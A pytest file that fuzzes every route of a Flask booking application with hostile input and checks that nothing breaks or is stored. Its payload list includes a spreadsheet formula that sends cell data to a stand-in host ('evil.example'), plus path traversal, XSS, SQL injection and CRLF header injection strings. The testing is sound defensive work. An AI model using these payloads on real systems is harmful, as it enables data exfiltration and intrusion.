"""Hostile input over every route: NUL bytes, control characters, lone surrogates, huge
integers, deep JSON, header-breaking characters. Every answer is below 500, nothing hostile
is stored, and the seat counters stay exact (check-integrity) after each route's barrage."""
from __future__ import annotations

import json
import re

import pytest
from flask_wtf import FlaskForm
from sqlalchemy import String, Text, select

from booking.models import Booking, Role
from booking.models.db import db
from courses.models import Certificate

HOSTILE_TEXT = [
    "\x00", "王\x00建国", "\x01", "名\x1b[31m", "\x7f", "a\r\nSet-Cookie: pwned=1",
    "=WEBSERVICE(\"http://evil.example/\"&C7)", "99999999999999999999", "-1", "1e309",
    "../../etc/passwd", "<script>alert(1)</script>", "' OR 1=1 --", "𝕏" * 50, "x" * 20000,
]
HUGE_INTS = ["99999999999999999999", "2147483648", "-5", "0"]
# Lone surrogates cannot come through a form (the browser and Werkzeug replace them); they
# come through JSON escapes.
JSON_HOSTILE = ["\ud800", "a\udfffb", "\x00", "\x01", "x" * 200000]


def _form_field_names() -> set[str]:
    import booking.web.public.forms  # noqa: F401  (load every form class)
    import booking.web.public.waitlist_forms  # noqa: F401
    import booking.web.staff.forms  # noqa: F401
    import courses.web.public  # noqa: F401
    import courses.web.staff  # noqa: F401

    names: set[str] = set()
    stack = list(FlaskForm.__subclasses__())
    while stack:
        form = stack.pop()
        stack.extend(form.__subclasses__())
        names.update(n for n, v in vars(form).items() if hasattr(v, "field_class"))
    return names | {"next", "page", "reference", "token", "attendees-0", "organisation-name"}


@pytest.fixture
def world(create_venue, create_slot, create_booking, create_user, create_attended_group,
          create_lecturer):
    venue = create_venue()
    slot = create_slot(venue)
    booking, token = create_booking(slot)
    course_session, attended, _ = create_attended_group()
    create_lecturer()
    admin = create_user("admin", Role.ADMIN)
    return {"venue": venue, "slot": slot, "booking": booking, "token": token,
            "session": course_session, "admin": admin}


def _fill(rule, world, value: str | None = None) -> str | None:
    """A URL for ``rule`` with real-looking values (or ``value`` in every argument)."""
    real = {"reference": world["booking"].reference, "token": world["token"],
            "venue_code": world["venue"].code, "code": world["venue"].code,
            "day_text": world["slot"].day.isoformat(), "day": world["slot"].day.isoformat()}
    values = {}
    for name in rule._converters:
        converter = rule._converters[name].__class__.__name__
        if value is not None:
            values[name] = value
        elif "Integer" in converter:
            values[name] = 1
        elif "Any" in converter:
            values[name] = sorted(rule._converters[name].items)[0]
        else:
            values[name] = real.get(name, "x")
    url = rule.rule
    for name, val in values.items():
        url = re.sub(r"<(?:[^<>:]+:)?" + name + r"(?:\([^)]*\))?>", str(val), url)
    return url


def _routes(app):
    return [r for r in app.url_map.iter_rules() if r.endpoint != "static"]


def _assert_clean(runner):
    result = runner.invoke(args=["check-integrity"])
    assert result.exit_code == 0, result.output
    for table in db.metadata.sorted_tables:
        columns = [c for c in table.columns if isinstance(c.type, (String, Text))]
        for column in columns:
            for value in db.session.execute(select(column)).scalars():
                if isinstance(value, str) and re.search("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]", value):
                    raise AssertionError(f"{table.name}.{column.name} stored {value!r}")


def _sweep(client, app, world, runner):
    fields = _form_field_names()
    answers = []
    for rule in _routes(app):
        methods = sorted(rule.methods - {"HEAD", "OPTIONS"})
        url = _fill(rule, world)
        for method in methods:
            for hostile in HOSTILE_TEXT:
                if method == "GET":
                    query = {"next": hostile, "page": hostile, "venue": hostile,
                             "date": hostile, "month": hostile, "lang": hostile}
                    answers.append((method, url, hostile, client.get(url, query_string=query)))
                elif rule.rule.startswith("/api/"):
                    body = {"slot_id": hostile, "party_size": hostile, "notes": hostile,
                            "organisation": {"name": hostile, "kind": hostile},
                            "contact": {"name": hostile, "phone": hostile, "email": hostile},
                            "attendees": [hostile]}
                    answers.append((method, url, hostile, client.open(url, method=method,
                                                                      json=body)))
                else:
                    data = {name: hostile for name in fields}
                    answers.append((method, url, hostile, client.open(url, method=method,
                                                                      data=data)))
        for huge in HUGE_INTS:
            if any("Integer" in c.__class__.__name__ for c in rule._converters.values()):
                answers.append(("GET", _fill(rule, world, huge), huge,
                                client.get(_fill(rule, world, huge))))
        db.session.rollback()
        _assert_clean(runner)
    failures = [(m, u, h[:40], r.status_code) for m, u, h, r in answers if r.status_code >= 500]
    assert not failures, failures
    return answers


@pytest.mark.slow
def test_no_hostile_text_breaks_any_route_for_the_public(app, client, runner, world):
    _sweep(client, app, world, runner)


@pytest.mark.slow
def test_no_hostile_text_breaks_any_route_for_an_admin(app, client, runner, world, login):
    login(world["admin"])
    _sweep(client, app, world, runner)


@pytest.mark.parametrize("path", [
    "/slots/99999999999999999999/book", "/slots/2147483648/waitlist",
    "/staff/users/99999999999999999999999/role"])
def test_huge_integers_in_urls_are_not_found(client, world, path):
    assert client.get(path).status_code in (404, 405)


def test_a_huge_page_number_is_not_found(client, world, login):
    login(world["admin"])
    assert client.get("/staff/audit?page=99999999999999999999").status_code == 404
    assert client.get("/staff/audit?page=2").status_code == 200


def test_crlf_in_next_falls_back_to_home_and_breaks_no_header(client):
    response = client.get("/language/en?next=/%0d%0aSet-Cookie:%20x=1")
    assert response.status_code == 302
    assert response.headers["Location"] == "/"
    assert "x=1" not in response.headers.get("Set-Cookie", "")


def test_a_nul_in_an_organisation_name_is_refused_and_nothing_is_stored(client, world):
    slot = world["slot"]
    before = db.session.scalar(select(db.func.count()).select_from(Booking))
    response = client.post(f"/slots/{slot.id}/book", data={
        "organisation_name": "开州\x00党工委", "contact_name": "王建国",
        "contact_phone": "13812341234", "party_size": "12"})
    assert response.status_code == 400
    assert "无法处理的字符" in response.get_data(as_text=True)
    assert db.session.scalar(select(db.func.count()).select_from(Booking)) == before


@pytest.mark.parametrize("value", JSON_HOSTILE)
def test_api_refuses_hostile_json_text_with_a_json_error(client, world, value):
    body = {"slot_id": world["slot"].id,
            "organisation": {"name": value, "kind": "party_organisation"},
            "contact": {"name": "王建国", "phone": "13812341234"}, "party_size": 12}
    raw = json.dumps(body)      # keeps "\ud800" as an escape, as an attacker would send it
    response = client.post("/api/v1/bookings", data=raw, content_type="application/json")
    assert 400 <= response.status_code < 500
    assert response.get_json()["error"]["code"]


def test_api_refuses_deeply_nested_json(client, world):
    raw = "[" * 100000 + "]" * 100000
    response = client.post("/api/v1/bookings", data=raw, content_type="application/json")
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "malformed_json"


def test_api_refuses_invalid_utf8(client, world):
    response = client.post("/api/v1/bookings", data=b'{"notes": "\xed\xa0\x80"}',
                           content_type="application/json")
    assert response.status_code == 400


def test_a_nul_in_the_login_form_is_refused(client, world):
    response = client.post("/staff/login", data={"username": "admin\x00", "password": "x"})
    assert response.status_code == 400


def test_certificate_pages_stay_verifiable_by_serial(client, world):
    serial = db.session.scalar(select(Certificate.serial))
    if serial:
        assert client.get(f"/verify/{serial}\x00").status_code == 400
